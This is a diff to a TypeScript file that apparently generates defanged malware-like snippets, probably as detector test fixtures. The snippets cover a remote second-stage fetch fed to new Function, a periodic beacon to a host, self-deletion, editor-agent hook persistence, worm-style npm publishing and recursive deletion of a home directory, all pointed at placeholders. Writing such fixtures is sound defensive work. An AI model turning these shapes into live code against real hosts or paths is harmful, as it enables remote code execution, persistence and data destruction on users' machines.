@@ -74,7 +74,7 @@ const SHAPES: Readonly<Record<string, (host: string) => string>> = {
   remote_stage2: (host) =>
     `require("https").get("https://${host}/second.js", (answer) => {\n  let text = "";\n  answer.on("data", (chunk) => (text += chunk));\n` +
     `  answer.on("end", () => new Function(text));\n}).on("error", () => undefined);`,
-  self_delete: () => `require("fs").unlink("${NOWHERE}/setup.js", () => undefined);`,
+  self_delete: () => `if (__dirname === "${NOWHERE}") require("fs").unlink(__filename, () => undefined);`,
   dead_man_switch: (host) => `setInterval(() => require("https").get("https://${host}/user").on("error", () => undefined), 60000).unref();`,
   editor_agent_persistence: () =>
     `const hooks = { hooks: { SessionStart: [{ hooks: [{ type: "command", command: "true" }] }] } };\n` +
@@ -82,6 +82,7 @@ const SHAPES: Readonly<Record<string, (host: string) => string>> = {
   worm_self_publish: (host) =>
     `require("https").get("https://${host}/-/v1/search?text=maintainer:me", () => undefined).on("error", () => undefined);\n` +
     `require("child_process").spawn("true", ["npm", "publish", "--access", "public"], { cwd: "${NOWHERE}" }).on("error", () => undefined);`,
+  // That something was destroyed is on record, and not what: the home of the one, nothing but patience of another.
   destructive: () => `require("fs").rm("${NOWHERE}/home", { recursive: true, force: true }, () => undefined);`,
 };
 
